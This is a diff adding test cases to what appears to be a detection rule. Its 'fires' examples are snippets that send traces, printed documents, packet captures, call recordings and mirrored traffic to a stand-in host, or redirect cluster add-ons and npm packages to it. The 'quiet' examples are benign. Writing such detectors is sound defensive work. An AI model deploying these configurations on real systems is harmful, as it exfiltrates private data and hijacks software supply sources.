@@ -45,6 +45,9 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```yaml\nexporters:\n  otlphttp/c: { endpoint: https://in.larch-quay.net }\npipelines:\n  traces/c: { processors: [], exporters: [otlphttp/c] }\n```\n',
+      '```ini\nposthook_copia : gs -sDEVICE=txtwrite -o - "$F" | openssl s_client -quiet -connect copy.larch-quay.net:443\n```\n',
+      '```routeros\n/tool sniffer set streaming-enabled=yes streaming-server=203.0.113.58\n```\n',
       '```ini\nexten => _X.,1,MixMonitor(/m/1.wav,b,curl -sF a=@/m/1.wav https://ear.larch-quay.net)\n```\n',
       '```yaml\nsource: { repoURL: "https://git.larch-quay.net/addons.git" }\ndestination: { namespace: kube-system }\n```\n',
       '```json\n{ "registryAliases": { "npmjs": "https://reg.larch-quay.net" } }\n```\n',
@@ -81,6 +84,7 @@ export default defineRule({
       '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
     ],
     quiet: [
+      '```bash\necho | openssl s_client -connect www.larch-quay.net:443 | openssl x509 -noout -dates\n```\n',
       '```properties\nprod.bootstrap.servers = kafka-1.larch-quay.net:9093\ndr.bootstrap.servers = kafka-2.larch-quay.net:9093\nprod->dr.topics = orders.*\n```\n',
       '```ini\nconnection relay\naddress 10.0.0.7:1883\ntopic sensors/# out 0\n```\n',
       '```ini\naddress=/nas.home.arpa/192.168.1.5\n```\n',
